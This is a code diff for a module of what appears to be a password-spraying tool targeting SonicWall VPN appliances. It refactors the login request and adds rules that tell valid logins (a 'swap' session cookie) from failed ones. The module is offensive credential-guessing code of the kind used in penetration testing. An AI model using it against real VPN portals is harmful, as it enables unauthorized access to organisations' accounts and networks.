@@ -1,5 +1,4 @@
-import requests
-
+from .classes.Attempt import HttpRequest
 from .classes.BaseHttpTarget import BaseHttpTarget
 
 
@@ -7,6 +6,13 @@ class Sonicwall(BaseHttpTarget):
     NAME = "Sonicwall"
     DESCRIPTION = "Spray Sonicwall VPN appliances"
 
+    RULES = [
+        # Successful logins get a swap session cookie
+        {"cookie": "swap", "result": "Success", "message": "Valid login"},
+
+        {"body": "(?i)incorrect name/password", "result": "Fail"},
+    ]
+
     def __init__(self, host, port, timeout, fireprox):
         self.domain = input("Enter domain: ")
         self.timeout = timeout
@@ -49,25 +55,13 @@ class Sonicwall(BaseHttpTarget):
         }
         """
 
-    def set_username(self, username):
-        self.data["uName"] = username
-        self.username = username
-
-    def set_password(self, password):
-        self.data["pass"] = password
-        self.password = password
-
-    def login(self, username, password):
-        # set data
-        self.set_username(username)
-        self.set_password(password)
-        # post the request
-        response = requests.post(
-            self.url,
+    def prepare(self, username, password):
+        return HttpRequest(
+            username,
+            password,
+            url=self.url,
             headers=self.headers,
             cookies=self.cookies,
-            data=self.data,
+            data={**self.data, "uName": username, "pass": password},
             timeout=self.timeout,
-            verify=False,
-        )  # , proxies=self.proxyDict)
-        return response
+        )